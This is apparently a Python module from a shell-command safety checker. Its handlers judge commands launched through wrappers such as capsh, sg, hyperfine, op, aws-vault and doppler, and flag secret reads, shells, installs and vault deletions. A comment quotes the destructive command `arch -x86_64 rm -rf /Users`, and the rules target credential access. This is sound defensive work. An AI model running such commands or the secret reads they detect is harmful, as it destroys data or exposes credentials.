    """A program that runs the command in its arguments (`setpriv --reuid=0 CMD`,
    `bwrap --bind / / CMD`, `dotenv -- CMD`): judged as that command."""
    one, two, skip, string = _FORWARDERS[cmd.name]
    i = _skip_forwarder_options(cmd, one, two) + skip
    if cmd.name == "dotenvx":
        # `dotenvx run [opts] -- CMD`; other verbs (get, set, encrypt) change env files.
        if i >= len(cmd.args) or cmd.args[i].text != "run":
            cmd.add(M, "write", "dotenvx reads or changes environment files")
            return
        dash = next((j for j, w in enumerate(cmd.args) if w.text == "--"), None)
        i = dash + 1 if dash is not None else i + 1
    tail = list(cmd.args[i:])
    if not tail:
        cmd.add(M, "unknown-command", f"{cmd.name} changes how programs run")
        return
    if string:
        code = Word(
            " ".join(w.text for w in tail),
            tail[0].start,
            tail[-1].end,
            any(w.dynamic for w in tail),
        )
        _run_code_arg(cmd, code, "bash")
        return
    cmd.info = cmd.judge(tail, cmd.stdin)


for _n in _FORWARDERS:
    handles(_n)(_forward)


# macOS `arch [-x86_64|-arm64|-i386|...] [-c] [-d VAR] [-e VAR=VALUE] [-arch NAME] PROG ARGS`
# runs PROG under the named architecture; bare `arch` (and coreutils' `arch`) only prints
# the machine's architecture (h17: `arch -x86_64 rm -rf /Users` was read as the listing).
_ARCH_VALUED = frozenset(names("-d -e -arch"))


@handles("arch")
def _arch(cmd: Cmd) -> None:
    tail = list(cmd.args[_skip_forwarder_options(cmd, _ARCH_VALUED, frozenset()) :])
    if tail:
        cmd.info = cmd.judge(tail, cmd.stdin)


@handles("capsh")
def _capsh(cmd: Cmd) -> None:
    """`capsh [--opts] -- ARGS` runs `bash ARGS` (or the `--shell=` program); options
    before `--` only print or change capabilities."""
    args = cmd.args
    shell = "bash"
    for i, w in enumerate(args):
        if w.text.startswith("--shell="):
            shell = w.text.split("=", 1)[1] or "bash"
        if w.text == "--":
            tail = list(args[i + 1 :])
            cmd.info = cmd.judge([Word(shell, cmd.start, cmd.words[0].end), *tail], cmd.stdin)
            return
        if w.text in ("==",):  # `capsh ==`: re-exec capsh itself
            return
    if any(
        w.text.startswith(("--print", "--decode", "--has-", "--supports", "--current"))
        for w in args
    ):
        return
    cmd.add(M, "unknown-command", "capsh changes capabilities")


@handles("sg")
def _sg(cmd: Cmd) -> None:
    """`sg GROUP -c CMD` / `sg GROUP CMD`: runs CMD through `sh -c` as a member of GROUP."""
    args = [w for w in cmd.args if w.text != "-"]
    if len(args) < 2:
        cmd.add(M, "shell", "sg starts a shell in another group")
        return
    code_words = args[2:] if args[1].text == "-c" else args[1:]
    if not code_words:
        return
    code = Word(
        " ".join(w.text for w in code_words),
        code_words[0].start,
        code_words[-1].end,
        any(w.dynamic for w in code_words),
        False,
        code_words[0].origin if len(code_words) == 1 else "",
    )
    _run_code_arg(cmd, code, "bash")


@handles("hyperfine")
def _hyperfine(cmd: Cmd) -> None:
    """Every command string hyperfine benchmarks (and `--prepare`/`--cleanup`/`--setup`)
    runs through a shell, several times."""
    args = cmd.args
    value_opts = frozenset(
        names(
            """-w --warmup -m --min-runs -M --max-runs -r --runs -S --shell -u --time-unit
            --export-asciidoc --export-csv --export-json --export-markdown --export-orgmode
            --style -n --command-name -L --parameter-list -P --parameter-scan -D
            --parameter-step-size --sort --output --input"""
        )
    )
    code_opts = frozenset(names("-p --prepare -c --cleanup -s --setup --conclude -C"))
    i = 0
    while i < len(args):
        t = args[i].text
        if t in code_opts and i + 1 < len(args):
            _run_code_arg(cmd, args[i + 1], "bash")
            i += 2
        elif t in value_opts:
            i += 2
        elif t.startswith("-") and len(t) > 1:
            i += 1
        else:
            _run_code_arg(cmd, args[i], "bash")
            i += 1


@handles("entr")
def _entr(cmd: Cmd) -> None:
    """`entr [-rcs…] CMD` runs CMD whenever a listed file changes (`-s`: CMD is shell code)."""
    args = cmd.args
    i = 0
    code = False
    while i < len(args) and args[i].text.startswith("-") and len(args[i].text) > 1:
        code |= "s" in args[i].text[1:]
        i += 1
    tail = list(args[i:])
    if not tail:
        return
    if code:
        _run_code_arg(cmd, tail[0], "bash")
    else:
        cmd.judge(tail, NO_STDIN)


@handles("nix-shell")
def _nix_shell(cmd: Cmd) -> None:
    """`nix-shell [-p PKGS] --run CODE` / `--command CODE`: CODE runs in bash; without it
    an interactive shell with the packages starts (they are downloaded: an install)."""
    args = cmd.args
    for i, w in enumerate(args[:-1]):
        if w.text in ("--run", "--command"):
            _run_code_arg(cmd, args[i + 1], "bash")
            return
    cmd.add(M, "install", "nix-shell downloads packages and starts a shell with them")


_LAUNCHER_VALUE_OPTS = frozenset(
    names("--env-file --account --vault --config -c --cache --profile")
)


@handles("op")
def _op(cmd: Cmd) -> None:
    """1Password's `op run [--env-file F] -- CMD` runs CMD with secrets in its environment;
    other `op` verbs read or change the vault."""
    ops = cmd.operands()
    if ops and ops[0].text == "run":
        args = cmd.args
        start = next((i + 1 for i, w in enumerate(args) if w.text == "--"), None)
        if start is None:
            start = 1 + next((i for i, w in enumerate(args) if w.text == "run"), 0)
            while start < len(args) and args[start].text.startswith("-"):
                start += 2 if args[start].text in _LAUNCHER_VALUE_OPTS else 1
        tail = list(args[start:])
        if tail:
            cmd.info = cmd.judge(tail, cmd.stdin)
        return
    if ops and ops[0].text in ("read", "item", "document", "inject") and not cmd.has("delete"):
        cmd.add(M, "read-secret", "op reads secrets from the password manager")
        return
    cmd.add(M, "unknown-command", f"op {ops[0].text if ops else ''} changes the password manager")


@handles("aws-vault")
def _aws_vault(cmd: Cmd) -> None:
    """`aws-vault exec PROFILE [--] CMD` runs CMD with the profile's credentials."""
    args = cmd.args
    ops = cmd.operands()
    if not ops or ops[0].text != "exec":
        cmd.add(M, "read-secret", "aws-vault manages cloud credentials")
        return
    dash = next((i for i, w in enumerate(args) if w.text == "--"), None)
    if dash is not None:
        tail = list(args[dash + 1 :])
    else:
        rest_ops = [w for w in args[args.index(ops[0]) + 1 :]]
        while rest_ops and rest_ops[0].text.startswith("-"):
            rest_ops.pop(0)
        tail = rest_ops[1:]  # after the profile
    if tail:
        cmd.info = cmd.judge(tail, cmd.stdin)


@handles("rtx", "devbox", "pixi", "distrobox", "toolbox")
def _env_runner(cmd: Cmd) -> None:
    """Environment launchers: `rtx exec -- CMD`, `devbox run CMD`, `pixi run CMD`,
    `distrobox enter NAME -- CMD`, `toolbox run CMD` run CMD (devbox/pixi: as shell code)."""
    args = cmd.args
    ops = cmd.operands()
    verb = ops[0].text if ops else ""
    runs = {
        "rtx": ("exec", "x"),
        "devbox": ("run",),
        "pixi": ("run", "exec"),
        "distrobox": ("enter",),
        "toolbox": ("run",),
    }[cmd.name]
    if verb not in runs:
        cmd.add(M, "install", f"{cmd.name} {verb} changes development environments")
        return
    dash = next((i for i, w in enumerate(args) if w.text == "--"), None)
    if dash is not None:
        tail = list(args[dash + 1 :])
    else:
        j = args.index(ops[0]) + 1
        while j < len(args) and args[j].text.startswith("-"):
            j += (
                2
                if args[j].text in ("-c", "--container", "-n", "--name", "-e", "--environment")
                else 1
            )
        tail = list(args[j:])
        if cmd.name == "distrobox":
            tail = []  # `distrobox enter NAME` without `--`: an interactive shell
    if not tail:
        cmd.add(M, "shell", f"{cmd.name} starts a shell in a development environment")
        return
    if cmd.name in ("devbox", "pixi") and len(tail) == 1:
        # A task of the project's configuration, or a command line.
        cmd.add(M, "local-script", f"{cmd.name} runs {tail[0].text}", tail[0])
        _run_code_arg(cmd, tail[0], "bash")
        return
    cmd.info = cmd.judge(tail, cmd.stdin)


@handles("perf")
def _perf(cmd: Cmd) -> None:
    """`perf stat|record|trace|top [opts] CMD` runs CMD under the profiler."""
    ops = cmd.operands()
    if not ops or ops[0].text not in (
        "stat",
        "record",
        "trace",
        "kvm",
        "sched",
        "mem",
        "lock",
        "c2c",
    ):
        return
    args = cmd.args
    j = args.index(ops[0]) + 1
    value = frozenset(
        names(
            """-e --event -o --output -p --pid -t --tid -r --repeat -C --cpu -F --freq -c
            --count -G --cgroup -I --interval-print -j -m --mmap-pages -u --uid --call-graph
            -x --field-separator"""
        )
    )
    while j < len(args):
        t = args[j].text
        if t == "--":
            j += 1
            break
        if t.startswith("-") and len(t) > 1:
            j += 2 if t in value else 1
            continue
        break
    tail = list(args[j:])
    if tail:
        cmd.info = cmd.judge(tail, cmd.stdin)


@handles("doppler", "infisical", "teller", "chamber", "envchain")
def _secrets_runner(cmd: Cmd) -> None:
    """Secret managers that run a command with secrets in its environment (`doppler run --
    CMD`: the dispatcher judges CMD); their other verbs read or change the vault."""
    cmd.add(M, "read-secret", f"{cmd.name} reads secrets from a vault")
    # (safety-f10) A delete verb before the command it runs (`doppler projects delete P`,
    # `infisical secrets delete K`, `chamber delete SVC KEY`) destroys what the vault
    # holds, like any cloud CLI's delete; `--help` only prints.
    for w in cmd.args:
        t = w.text
        if t in ("--", "run", "exec", "--help", "-h", "help"):
            break
        if t in _VAULT_DELETE_VERBS:
            cmd.add(D, "cloud-delete", f"`{cmd.name} … {t}` deletes what the secret vault holds", w)
            break


_VAULT_DELETE_VERBS = frozenset(("delete", "del", "rm", "remove", "destroy", "purge"))
